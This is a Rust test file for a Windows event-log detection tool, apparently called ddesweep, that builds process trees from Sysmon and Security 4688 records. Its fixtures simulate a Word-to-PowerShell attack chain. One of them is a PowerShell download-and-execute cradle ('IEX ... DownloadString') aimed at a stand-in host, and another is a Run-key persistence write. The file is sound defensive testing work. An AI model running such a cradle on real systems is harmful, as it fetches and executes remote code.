//! Tree building: Sysmon GUID trees, Security 4688 process-ID trees with ID reuse, bounds, and
//! (through `trace::plan`) no second row for a record the first read reported.

use super::*;
use crate::detect::eventlog::{LogOutcome, trace};
use crate::formats::evtx::typed::{DnsQuery, NetworkConnection, RegistryChange};

const HOST: &str = "WS-DAVE.corp.example";

fn guid(n: u64) -> String {
    format!("{{B2796A13-4D21-65E5-0000-{n:012X}}}")
}

/// A Sysmon 1 start of `image` (GUID `n`, PID `pid`) by GUID `parent`.
fn sysmon(id: u64, image: &str, n: u64, pid: u64, parent: u64, command: &str) -> TreeRecord {
    TreeRecord {
        record_id: id,
        computer: HOST.to_owned(),
        event: TypedEvent::ProcessStart(ProcessStart {
            image: image.to_owned(),
            command_line: Some(command.to_owned()),
            process_id: Some(pid),
            process_guid: Some(guid(n)),
            parent_process_id: Some(pid + 1000),
            parent_process_guid: Some(guid(parent)),
            ..ProcessStart::default()
        }),
    }
}

/// A Security 4688 start of `image` (PID `pid`) by parent PID `parent`.
fn security(id: u64, image: &str, pid: u64, parent: u64) -> TreeRecord {
    TreeRecord {
        record_id: id,
        computer: HOST.to_owned(),
        event: TypedEvent::ProcessStart(ProcessStart {
            image: image.to_owned(),
            process_id: Some(pid),
            parent_process_id: Some(parent),
            ..ProcessStart::default()
        }),
    }
}

fn dns(id: u64, n: u64, query: &str) -> TreeRecord {
    TreeRecord {
        record_id: id,
        computer: HOST.to_owned(),
        event: TypedEvent::DnsQuery(DnsQuery {
            image: "x.exe".to_owned(),
            query_name: query.to_owned(),
            process_guid: Some(guid(n)),
            ..DnsQuery::default()
        }),
    }
}

const WIDE: Bounds = Bounds {
    max_depth: 8,
    max_nodes: 256,
};

/// (record number, depth, parent's record number) of every node.
fn shape(records: &[TreeRecord], forest: &Forest) -> Vec<(u64, usize, Option<u64>)> {
    forest
        .nodes
        .iter()
        .map(|n| {
            let parent = n
                .parent
                .and_then(|p| forest.nodes.get(p))
                .map(|p| records[p.record].record_id);
            (records[n.record].record_id, n.depth, parent)
        })
        .collect()
}

#[test]
fn sysmon_tree_follows_parent_guids() {
    let records = vec![
        sysmon(1, "WINWORD.EXE", 0xa, 100, 0x1, "winword"),
        sysmon(2, "cmd.exe", 0xb, 200, 0xa, "cmd /c powershell"),
        sysmon(3, "explorer.exe", 0xe, 300, 0x1, "explorer"),
        sysmon(4, "powershell.exe", 0xc, 400, 0xb, "powershell"),
        dns(5, 0xc, "remit-portal.example"),
        sysmon(6, "notepad.exe", 0xf, 500, 0xe, "notepad"),
        dns(7, 0xe, "chrome.example"),
        sysmon(8, "remitsync.exe", 0xd, 600, 0xc, "remitsync"),
        dns(9, 0xb, "cmd.example"),
    ];
    let forest = build(&records, &[2], WIDE);
    assert_eq!(
        shape(&records, &forest),
        [(2, 0, None), (4, 1, Some(2)), (8, 2, Some(4))]
    );
    assert_eq!(forest.roots_traced, 1);
    assert_eq!(forest.cut_off, 0);
    // powershell's query (node 1) and the root's own (node 0); not explorer's.
    assert_eq!(forest.activity, [(4, 1), (8, 0)]);
}

#[test]
fn security_tree_follows_process_ids_until_reuse() {
    let records = vec![
        security(10, "WINWORD.EXE", 0x1a2c, 0x7fc),
        security(11, "cmd.exe", 0x1b40, 0x1a2c),
        security(12, "powershell.exe", 0x1c00, 0x1b40),
        security(13, "conhost.exe", 0x1c10, 0x1b40),
        // cmd.exe ends; its ID is reused by notepad.exe ...
        security(14, "notepad.exe", 0x1b40, 0x2f0),
        // ... whose child is no descendant of cmd.exe.
        security(15, "calc.exe", 0x1d00, 0x1b40),
        security(16, "whoami.exe", 0x1d10, 0x1c00),
    ];
    // A start logged before cmd.exe whose parent had cmd.exe's ID earlier: not its child.
    let mut early = records.clone();
    early.insert(0, security(9, "evil.exe", 0x1e00, 0x1b40));
    let forest = build(&records, &[11], WIDE);
    assert_eq!(
        shape(&records, &forest),
        [
            (11, 0, None),
            (12, 1, Some(11)),
            (13, 1, Some(11)),
            (16, 2, Some(12)),
        ]
    );
    let forest = build(&early, &[11], WIDE);
    assert_eq!(
        shape(&early, &forest),
        shape(&records, &build(&records, &[11], WIDE))
    );
    // Another computer's process with the same ID is no child either.
    let mut other = records.clone();
    other[3].computer = "OTHER".to_owned();
    let forest = build(&other, &[11], WIDE);
    assert_eq!(
        shape(&other, &forest)
            .iter()
            .map(|(id, ..)| *id)
            .collect::<Vec<_>>(),
        [11, 12, 16]
    );
}

#[test]
fn bounds_cut_depth_and_count() {
    // A chain 1 -> 2 -> 3 -> 4 -> 5 and three more children of 1.
    let mut records: Vec<TreeRecord> = (1..=5)
        .map(|n| sysmon(n, "x.exe", n, n * 4, n - 1, "x"))
        .collect();
    records.extend((6..=8).map(|n| sysmon(n, "y.exe", n, n * 4, 1, "y")));
    let deep = build(
        &records,
        &[1],
        Bounds {
            max_depth: 2,
            max_nodes: 256,
        },
    );
    // Depth 1: 2, 6, 7, 8; depth 2: 3; 4 (depth 3) cut.
    assert_eq!(
        shape(&records, &deep)
            .iter()
            .map(|(id, d, _)| (*id, *d))
            .collect::<Vec<_>>(),
        [(1, 0), (2, 1), (6, 1), (7, 1), (8, 1), (3, 2)]
    );
    assert_eq!(deep.cut_off, 1);
    let few = build(
        &records,
        &[1],
        Bounds {
            max_depth: 8,
            max_nodes: 2,
        },
    );
    assert_eq!(few.nodes.len(), 3, "the root and two descendants");
    // 7 and 8 (children of 1) and 3 (child of 2) are found but not followed.
    assert_eq!(few.cut_off, 3);
}

#[test]
fn a_root_below_another_root_is_one_tree() {
    let records = vec![
        sysmon(1, "cmd.exe", 0xb, 200, 0xa, "cmd"),
        sysmon(2, "WINWORD.EXE", 0xc, 300, 0xb, "winword"),
        sysmon(3, "cmd.exe", 0xd, 400, 0xc, "cmd"),
    ];
    let forest = build(&records, &[1, 3], WIDE);
    assert_eq!(forest.roots_traced, 2);
    assert_eq!(forest.nodes.len(), 3);
    assert!(build(&records, &[99], WIDE).nodes.is_empty());
}

#[test]
fn first_read_rows_are_not_repeated() {
    let profile = crate::profile::load("default").unwrap().profile;
    let run_key = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\RemitSync";
    let records = vec![
        sysmon(1, r"C:\Office16\WINWORD.EXE", 0xa, 100, 0x1, "winword"),
        sysmon(
            2,
            r"C:\Windows\System32\cmd.exe",
            0xb,
            200,
            0xa,
            "cmd /c powershell",
        ),
        sysmon(
            3,
            r"C:\Windows\powershell.exe",
            0xc,
            300,
            0xb,
            "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        ),
        TreeRecord {
            record_id: 4,
            computer: HOST.to_owned(),
            event: TypedEvent::Registry(RegistryChange {
                target: run_key.to_owned(),
                operation: "SetValue".to_owned(),
                details: Some("C:\\r.exe".to_owned()),
                process_guid: Some(guid(0xc)),
                ..RegistryChange::default()
            }),
        },
        TreeRecord {
            record_id: 5,
            computer: HOST.to_owned(),
            event: TypedEvent::Network(NetworkConnection {
                image: "powershell.exe".to_owned(),
                destination_ip: "203.0.113.77".to_owned(),
                process_guid: Some(guid(0xc)),
                ..NetworkConnection::default()
            }),
        },
    ];
    // The first read reported the root (record 2) and, say, the registry write (record 4).
    let first = |record: u64| {
        let mut event = crate::detect::Event::new(
            "T1559.002",
            crate::profile::Severity::High,
            "ddesweep:eventlog:process_start",
            String::new(),
            (crate::time::Timestamp::UNIX_EPOCH, "Recorded Time"),
            "e",
            "p",
        );
        event.fields.record_number = Some(record);
        event
    };
    let mut outcome = LogOutcome {
        events: vec![first(2), first(4)],
        roots: vec![2],
        ..LogOutcome::default()
    };
    let plan = trace::plan(&profile, &mut outcome, records);
    let mut ids: Vec<u64> = plan.record_ids().into_iter().collect();
    ids.sort_unstable();
    assert_eq!(ids, [3, 5]);
    assert_eq!(outcome.tree.tree_roots, 1);
    assert_eq!(outcome.tree.tree_descendants, 1);
    assert_eq!(outcome.tree.tree_nodes_cut_off, 0);
}
